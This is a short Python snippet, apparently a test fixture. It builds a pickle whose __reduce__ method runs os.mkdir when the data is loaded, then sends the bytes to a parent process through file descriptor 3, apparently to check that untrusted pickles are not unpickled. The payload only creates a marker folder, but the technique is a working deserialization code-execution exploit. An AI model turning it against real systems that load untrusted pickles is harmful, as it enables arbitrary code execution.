# sends a pickle that runs code when it is loaded
import os, pickle
class Evil:
    def __reduce__(self): return os.mkdir, (W["folder"] + "/unpickled",)
answer = pickle.dumps(Evil())
os.write(3, len(answer).to_bytes(8, "big") + answer); os._exit(0)
